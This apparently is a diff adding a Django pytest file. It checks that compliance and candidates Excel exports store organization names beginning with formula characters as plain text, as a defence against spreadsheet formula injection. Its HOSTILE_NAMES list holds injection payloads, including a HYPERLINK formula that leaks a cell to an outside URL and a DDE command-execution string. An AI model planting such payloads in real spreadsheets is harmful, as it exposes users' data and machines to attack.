@@ -1,0 +1,58 @@
+"""Every Excel export writes a text that a spreadsheet would run as plain text (OWASP "CSV injection")."""
+
+import datetime
+import io
+import zipfile
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from plans.services.candidates import candidates_flag
+from tests.assessments.factories import classify
+from tests.cells.factories import make_meeting
+
+HOSTILE_NAMES = ['=HYPERLINK("http://x"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
+
+
+def formulas(content: bytes) -> list[str]:
+    """The formulas stored in a workbook: <f> elements of its sheets, and cells typed as formulas."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        return [name for name in sheets if b"<f>" in archive.read(name) or b"<f " in archive.read(name)]
+
+
+def texts(content: bytes) -> list:
+    sheet = load_workbook(io.BytesIO(content)).active
+    return [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "s"]
+
+
+@pytest.fixture
+def hostile_names(tree):
+    names = dict(zip([tree.a, tree.b, tree.a1, tree.a2, tree.b1], HOSTILE_NAMES, strict=False))
+    for organization, name in names.items():
+        organization.name = name
+        organization.save()
+    return names
+
+
+def test_the_compliance_workbooks_show_formulas_as_text(client, tree, alice, hostile_names):
+    make_meeting(tree.a1, date=datetime.date(2016, 3, 5))
+    client.force_login(alice)
+    # The commune's page lists its cells A1 and A2; the district's its communes A and B.
+    for organization, shown in ((tree.a, HOSTILE_NAMES[2:4]), (tree.d, HOSTILE_NAMES[0:2])):
+        url = reverse("cells:meeting_compliance", kwargs={"org_code": organization.code, "year": 2016})
+        content = client.get(url, {"xuat": "xlsx"}).content
+        assert formulas(content) == []
+        assert set(shown) <= set(texts(content))
+
+
+def test_the_candidates_workbook_shows_formulas_as_text(client, tree, alice, hostile_names):
+    classify(tree.a, 2018, "complete")
+    classify(tree.b, 2018, "incomplete")
+    candidates_flag(year=2018)
+    client.force_login(alice)
+    content = client.get(reverse("plans:candidates_export", kwargs={"year": 2019})).content
+    assert formulas(content) == []
+    written = texts(content)
+    assert HOSTILE_NAMES[0] in written and HOSTILE_NAMES[1] in written
